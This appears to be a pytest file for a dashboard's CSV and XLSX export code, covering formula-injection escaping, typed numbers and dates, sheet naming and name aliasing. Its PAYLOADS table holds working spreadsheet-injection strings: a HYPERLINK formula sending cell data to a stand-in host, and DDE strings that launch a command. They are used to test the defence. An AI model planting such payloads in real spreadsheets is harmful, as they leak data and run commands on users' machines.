"""Table exports: formula-safe text, typed numbers and dates, in CSV and XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from kamdash.present.aliases import Aliases
from kamdash.present.exports import (
    neutralise,
    number_format,
    safe_sheet_name,
    sheets_to_xlsx_bytes,
    to_csv_bytes,
    to_xlsx_bytes,
)

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = {
    "=": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes, sheet: str | None = None):
    wb = load_workbook(io.BytesIO(data))
    return wb[sheet] if sheet else wb.worksheets[0]


@pytest.mark.parametrize("ch", TRIGGERS, ids=[repr(c) for c in TRIGGERS])
def test_csv_neutralises_each_leading_character(ch):
    payload = PAYLOADS[ch]
    assert payload.startswith(ch)
    df = pd.DataFrame({"note": [payload], "n": [1]})
    got = read_csv(to_csv_bytes(df))
    assert got[0] == ["note", "n"]
    assert got[1][0] == "'" + payload
    assert got[1][1] == "1"


@pytest.mark.parametrize("ch", TRIGGERS, ids=[repr(c) for c in TRIGGERS])
def test_xlsx_neutralises_each_leading_character(ch):
    payload = PAYLOADS[ch]
    df = pd.DataFrame({"note": [payload], "n": [1]})
    ws = read_xlsx(to_xlsx_bytes(df, "Notes"))
    c = ws["A2"]
    assert c.data_type == "s", "text is a string cell, never a formula"
    # a carriage return is stored as Excel writes it (_x000D_), which Excel reads back as \r
    assert unescape(c.value) == "'" + payload
    assert ws["B2"].value == 1 and ws["B2"].data_type == "n"


def test_no_formula_cells_anywhere_in_the_xlsx():
    df = pd.DataFrame({"=header": PAYLOADS.values(), "x": range(len(PAYLOADS))})
    ws = read_xlsx(to_xlsx_bytes(df, "S"))
    kinds = {c.data_type for row in ws.iter_rows() for c in row if c.value is not None}
    assert "f" not in kinds
    assert ws["A1"].value == "'=header"
    # the raw XML holds no <f> (formula) element
    import zipfile

    z = zipfile.ZipFile(io.BytesIO(to_xlsx_bytes(df, "S")))
    sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_leading_spaces_before_a_trigger_are_neutralised_too():
    assert neutralise("  =1+1") == "'  =1+1"
    assert neutralise("a=1") == "a=1"
    assert neutralise("Plain text") == "Plain text"
    assert neutralise("") == ""


def test_real_numbers_stay_numbers_even_negative():
    df = pd.DataFrame(
        {
            "int": [-50, 3],
            "float": [-50.5, 1234.25],
            "np": np.array([-1.5, 2.0]),
            "dec": [Decimal("-12.5"), Decimal("7")],
            "text_number": ["-50", "+5"],
        }
    )
    rows = read_csv(to_csv_bytes(df))
    assert rows[1][:4] == ["-50", "-50.5", "-1.5", "-12.5"]
    assert rows[1][4] == "'-50"  # text that looks like a number is text: neutralised
    assert rows[2][:4] == ["3", "1234.25", "2", "7"]
    ws = read_xlsx(to_xlsx_bytes(df, "N"))
    assert ws["A2"].value == -50 and ws["A2"].data_type == "n"
    assert ws["B2"].value == -50.5 and ws["B2"].data_type == "n"
    assert ws["C2"].value == -1.5 and ws["C2"].data_type == "n"
    assert ws["D2"].value == -12.5 and ws["D2"].data_type == "n"
    assert ws["E2"].value == "'-50" and ws["E2"].data_type == "s"


def test_dates_are_real_dates():
    df = pd.DataFrame(
        {
            "d": [dt.date(2026, 3, 31), None],
            "ts": pd.to_datetime(["2026-01-15", "2026-02-01"]),
            "when": [dt.datetime(2026, 1, 2, 9, 30), dt.datetime(2026, 1, 3, 0, 0)],
            "tz": pd.to_datetime(["2026-01-15 12:00"]).tz_localize("UTC").tolist() * 2,
        }
    )
    ws = read_xlsx(to_xlsx_bytes(df, "Dates"))
    a2, b2, c2, d2 = ws["A2"], ws["B2"], ws["C2"], ws["D2"]
    for c in (a2, b2, c2, d2):
        assert c.is_date, c.coordinate
        assert c.data_type == "d" or c.data_type == "n"
    assert a2.value.date() == dt.date(2026, 3, 31)
    assert a2.number_format == "yyyy-mm-dd"
    assert b2.value == dt.datetime(2026, 1, 15) and b2.number_format == "yyyy-mm-dd"
    assert c2.value == dt.datetime(2026, 1, 2, 9, 30) and c2.number_format == "yyyy-mm-dd hh:mm"
    assert d2.value == dt.datetime(2026, 1, 15, 12, 0)
    assert ws["A3"].value is None
    rows = read_csv(to_csv_bytes(df))
    assert rows[1][:3] == ["2026-03-31", "2026-01-15", "2026-01-02 09:30:00"]
    assert rows[2][0] == ""


def test_missing_values_booleans_and_infinities():
    df = pd.DataFrame(
        {"x": [np.nan, 1.0], "b": [True, False], "s": [None, "ok"], "i": [np.inf, 2.0]}
    )
    rows = read_csv(to_csv_bytes(df))
    assert rows[1] == ["", "TRUE", "", ""]
    assert rows[2] == ["1", "FALSE", "ok", "2"]
    ws = read_xlsx(to_xlsx_bytes(df, "M"))
    assert ws["A2"].value is None and ws["D2"].value is None
    assert ws["B2"].value is True and ws["B2"].data_type == "b"


def test_control_characters_do_not_break_xlsx_and_unicode_survives():
    df = pd.DataFrame({"t": ["bell\x07here", "Zoë Müller – 東京"]})
    ws = read_xlsx(to_xlsx_bytes(df, "U"))
    assert ws["A2"].value == "bell\ufffdhere"
    assert ws["A3"].value == "Zoë Müller – 東京"
    assert read_csv(to_csv_bytes(df))[2] == ["Zoë Müller – 東京"]


def test_sheet_names_are_made_valid_and_unique():
    assert safe_sheet_name("a/b:c*d?[e]") == "a_b_c_d__e_"
    assert len(safe_sheet_name("x" * 40)) == 31
    data = sheets_to_xlsx_bytes({"Revenue": pd.DataFrame({"a": [1]}), "revenue": pd.DataFrame()})
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Revenue", "revenue (2)"]


def test_index_and_empty_frames():
    df = pd.DataFrame({"v": [1, 2]}, index=pd.Index(["=a", "b"], name="k"))
    rows = read_csv(to_csv_bytes(df, index=True))
    assert rows == [["k", "v"], ["'=a", "1"], ["b", "2"]]
    assert read_csv(to_csv_bytes(pd.DataFrame())) == [[]]
    ws = read_xlsx(to_xlsx_bytes(pd.DataFrame(columns=["a", "b"]), "E"))
    assert [c.value for c in ws[1]] == ["a", "b"]


def test_exports_hide_names_with_aliases():
    al = Aliases("s", accounts=[("A1", "Glenmore Retail LLC")], contacts=["Zoe Wong"])
    df = pd.DataFrame(
        {
            "account_id": ["A1"],
            "account_name": ["Glenmore Retail LLC"],
            "name": ["Zoe Wong"],
            "notes": ["Zoe Wong at Glenmore Retail asked for =SUM(1)"],
        }
    )
    for data in (to_csv_bytes(df, aliases=al), to_xlsx_bytes(df, "x", aliases=al)):
        blob = data if data[:2] != b"PK" else _xlsx_text(data)
        assert b"Glenmore" not in blob and b"Zoe" not in blob
    rows = read_csv(to_csv_bytes(df, aliases=al))
    assert rows[1][1] == al.account("A1") and rows[1][2] == al.contact("Zoe Wong")


def _xlsx_text(data: bytes) -> bytes:
    import zipfile

    z = zipfile.ZipFile(io.BytesIO(data))
    return b"".join(z.read(n) for n in z.namelist())


# ------------------------------------------------------------ number formats: the data, typed


def test_money_and_ratio_cells_are_numbers_with_a_currency_format():
    df = pd.DataFrame(
        {
            "Account ID": ["A1", "A2", "A3"],
            "TTM": [3_612_345.6789, 0.1 + 0.2, None],
            "Change": [-1200.0, 1500.0, 0.0],
            "NRR": [1.12, 0.9, None],
            "Score": [4.25, 3.0, 1.0],
            "Contacts": [1200, 3, 0],
        }
    )
    formats = {
        "TTM": "money",
        "Change": "signed_money",
        "NRR": "percent",
        "Score": "score",
        "Contacts": "integer",
    }
    ws = read_xlsx(to_xlsx_bytes(df, "T", formats=formats, currency="€"))
    assert [c.value for c in ws[1]] == list(df.columns)  # the names given (the screen's)
    ttm = ws["B2"]
    assert ttm.data_type == "n" and ttm.value == pytest.approx(3_612_345.68)
    assert ttm.number_format == '"€"#,##0;-"€"#,##0;"€"0'
    assert ws["B3"].value == pytest.approx(0.3) and ws["B4"].value is None
    assert ws["C2"].value == -1200 and ws["C2"].number_format.startswith('+"€"')
    assert ws["D2"].value == pytest.approx(1.12) and ws["D2"].number_format == "0%"
    assert ws["E2"].number_format == "0.0" and ws["F2"].number_format == "#,##0"
    assert ws["A2"].data_type == "s" and ws["A2"].value == "A1"  # IDs stay text
    rows = read_csv(to_csv_bytes(df, formats=formats))
    assert rows[1] == ["A1", "3612345.68", "-1200", "1.12", "4.25", "1200"]
    assert rows[2][1] == "0.3" and rows[3][1] == ""  # cents, no float noise; empty = missing


def test_number_format_spells_any_currency():
    assert number_format("money", "$") == '"$"#,##0;-"$"#,##0;"$"0'
    assert number_format("money", "CHF ").startswith('"CHF "#,##0')
    assert number_format("percent") == "0%"
    with pytest.raises(KeyError):
        number_format("nonsense")


def test_a_big_table_exports_every_row_typed():
    n = 20_000
    df = pd.DataFrame(
        {
            "Account ID": [f"ACC-{i:05d}" for i in range(n)],
            "Account": [f"=Name {i}" if i % 1000 == 0 else f"Name {i}" for i in range(n)],
            "TTM": np.arange(n, dtype=float) * 10.5,
        }
    )
    ws = read_xlsx(to_xlsx_bytes(df, "Big", formats={"TTM": "money"}))
    assert ws.max_row == n + 1
    assert all(r[0].data_type == "n" for r in ws.iter_rows(min_row=2, min_col=3, max_col=3))
    assert ws["B2"].value == "'=Name 0"  # formula-safe text kept
    assert len(read_csv(to_csv_bytes(df))) == n + 1
